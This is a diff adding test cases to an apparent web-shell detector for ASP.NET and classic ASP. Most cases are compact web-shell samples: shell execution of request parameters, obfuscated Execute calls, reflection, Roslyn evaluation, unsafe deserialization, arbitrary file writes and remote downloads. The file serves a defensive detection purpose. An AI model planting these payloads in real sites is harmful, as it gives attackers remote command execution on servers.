@@ -321,3 +321,76 @@ def test_benign_forum_sending_spam_bots_away():
     assert_benign('<%\nagent = LCase(Request.ServerVariables("HTTP_USER_AGENT"))\n'
                   'If InStr(agent, "spambot") > 0 Then Response.Redirect("http://" & Request.ServerVariables("REMOTE_ADDR"))\n'
                   'strIPLookup = "http://samspade.org/whois/"\n%>')
+
+
+# --- more spellings: object tags, GetRef, class methods, reflection, Roslyn, downloads ---------------
+
+MORE_VB = {
+    "object-classid": '<object runat="server" id="sh" scope="page" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8">'
+                      '</object><%\nsh.Run Request("c")\n%>',
+    "object-progid": '<object runat="server" id="sh" scope="page" progid="WScript.Shell"></object><%\n'
+                     'Response.Write sh.Exec(Request("c")).StdOut.ReadAll\n%>',
+    "object-fso": '<object runat=server id=fs scope=page classid="clsid:0D43FE01-F093-11CF-8940-00A0C9054228">'
+                  '</object><%\nSet f = fs.CreateTextFile(Request("p"), True)\nf.Write Request("d")\n%>',
+    "getref": '<%\nSub Go(c)\nExecute c\nEnd Sub\nSet f = GetRef("Go")\nf Request("c")\n%>',
+    "class-method": '<%\nClass K\n Public Sub Run(c)\n  ExecuteGlobal c\n End Sub\nEnd Class\nSet k = New K\n'
+                    'k.Run Request("c")\n%>',
+    "with-block": '<%\nWith CreateObject("WScript.Shell")\n  .Run Request("c"), 0\nEnd With\n%>',
+    "execute-unescape": '<%\nExecute Unescape("%65%78%65%63%75%74%65%20%72%65%71%75%65%73%74%28%22%63%22%29")\n%>',
+    "chr-built": '<%\nExecute(Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101) & " request(""c"")")\n%>',
+}
+
+
+@pytest.mark.parametrize("case", sorted(MORE_VB))
+def test_more_vbscript(case):
+    assert_shell(MORE_VB[case])
+
+
+MORE_CS = {
+    "typeof-reflect": 'typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) })'
+                      '.Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] });',
+    "psi-initialiser": "System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo {"
+                       ' FileName = "cmd.exe", Arguments = "/c " + Request["c"], UseShellExecute = false });',
+    "process-initialiser": "var p = new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo("
+                           '"cmd.exe", "/c " + Request["c"]) }; p.Start();',
+    "dynamic-com": 'dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript." + "Shell"));'
+                   ' sh.Exec(Request["c"]);',
+    "roslyn": 'Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Request["c"]).Wait();',
+    "vbcodeprovider": "new Microsoft.VisualBasic.VBCodeProvider().CompileAssemblyFromSource("
+                      'new System.CodeDom.Compiler.CompilerParameters(), Request["c"]);',
+    "entrypoint": 'System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["p"])).EntryPoint'
+                  ".Invoke(null, new object[] { new string[0] });",
+    "losformatter": 'new System.Web.UI.LosFormatter().Deserialize(Request["v"]);',
+    "binaryformatter": "new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter()"
+                       ".Deserialize(Request.InputStream);",
+    "filestream": 'using (var fs = new System.IO.FileStream(Request["p"], System.IO.FileMode.Create)) {'
+                  " Request.InputStream.CopyTo(fs); }",
+    "download": 'new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["f"]));',
+}
+
+
+@pytest.mark.parametrize("case", sorted(MORE_CS))
+def test_more_csharp(case):
+    assert_shell(f'<%@ Page Language="C#" %><% {MORE_CS[case]} %>', "x.aspx")
+
+
+def test_jscript_net_eval_through_an_indexed_alias():
+    assert_shell('<%@ Page Language="JScript" %><% var e = this["ev" + "al"]; e(Request["c"]); %>', "x.aspx")
+
+
+def test_vbnet_handler():
+    assert_shell('<%@ WebHandler Language="VB" Class="H" %>\nImports System.Web\nPublic Class H : Implements IHttpHandler\n'
+                 " Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest\n"
+                 '  System.Diagnostics.Process.Start("cmd.exe", "/c " & context.Request("c"))\n End Sub\nEnd Class',
+                 "x.ashx")
+
+
+def test_asmx_web_method_parameter():
+    assert_shell('<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services;\npublic class S : WebService {'
+                 ' [WebMethod] public string Run(string c) { return System.Diagnostics.Process.Start("cmd.exe",'
+                 ' "/c " + c).Id.ToString(); } }', "x.asmx")
+
+
+def test_benign_object_tag_for_a_dictionary():
+    assert_benign('<object runat="server" id="d" progid="Scripting.Dictionary"></object><%\n'
+                  'd.Add "q", Request("q")\nResponse.Write Server.HTMLEncode(d("q"))\n%>')
